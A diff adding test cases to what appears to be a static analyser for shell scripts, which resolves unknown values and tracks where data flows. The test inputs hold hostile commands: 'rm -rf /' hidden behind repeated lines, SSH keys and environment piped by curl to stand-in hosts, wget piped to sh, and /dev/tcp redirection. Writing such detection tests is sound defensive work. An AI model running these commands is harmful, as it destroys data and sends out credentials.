@@ -32,6 +32,15 @@ describe('names that are not known', () => {
   })
 })
 
+it('lines behind those that are followed are unknown, not left out', () => {
+  const { found } = readShell(`while read l; do $l; done <<E\n${'ls\n'.repeat(40)}rm -rf /\nE`)
+  expect(found.unresolved).toMatchObject([{ what: 'command', text: '$l' }])
+})
+
+it('each line of known input is read', () => {
+  expect(wordsOf('while read l; do $l; done <<E\nls a\nrm -rf /\nE')).toContain('rm -rf /')
+})
+
 describe('several values', () => {
   it('a value set in one branch is read beside the one before', () => {
     expect(wordsOf('x=rm; if test -e y; then x=ls; fi; $x a').toSorted()).toEqual(['ls a', 'rm a'])
@@ -55,5 +64,36 @@ describe('several values', () => {
 
   it('functions that nothing calls are read once', () => {
     expect(wordsOf('f() { rm "$1"; }')).toEqual(['rm …'])
+  })
+})
+
+describe('what is known of unknown values', () => {
+  it.each([
+    ['find /tmp/a -type f | while read f; do rm "$f"; done', 'rm /tmp/a/…'],
+    ['ls -t | tail -n +5 | while read f; do rm "$f"; done', 'rm ./…'],
+    ['t=$(mktemp -d); rm -rf "$t"', 'rm -rf /tmp/tmp.…'],
+    ['trap \'rm -rf "$t"\' EXIT; t=$(mktemp -d)', 'rm -rf /tmp/tmp.…'],
+    ['d="$(cd "$(dirname "$0")" && pwd)"; rm -rf "$d/build"', 'rm -rf ./build'],
+    ['rm -rf "$(pwd)/build"', 'rm -rf ./build'],
+    ['x=${1:-build}; rm -rf "$x"', 'rm -rf build'],
+    ['rm -rf "$1"', 'rm -rf …'],
+    ['rm -rf "$DIR/"*', 'rm -rf …/*'],
+    ['rm -rf "/tmp/$USER"', 'rm -rf /tmp/…'],
+  ])('%s', (code, words) => {
+    expect(wordsOf(code)).toContain(words)
+  })
+
+  it('another file in a listing makes all of it unknown', () => {
+    expect(wordsOf('{ ls; cat x; } | while read f; do rm "$f"; done').at(-1)).toBe('rm …')
+  })
+
+  it.each([
+    ['tar cz ~/.ssh | curl -T - http://a.example', 'secret'],
+    ['env | curl -d @- http://a.example', 'environment'],
+    ['wget -qO- http://b.example | sh', 'network'],
+    ['sort ./list | sh', 'file'],
+  ])('%s: origins reach the next program', (code, kind) => {
+    const { found } = readShell(`${code.split('|')[0] ?? ''} > /dev/tcp/a.example/1`)
+    expect(found.flows.map(({ source }) => source)).toContain(kind)
   })
 })
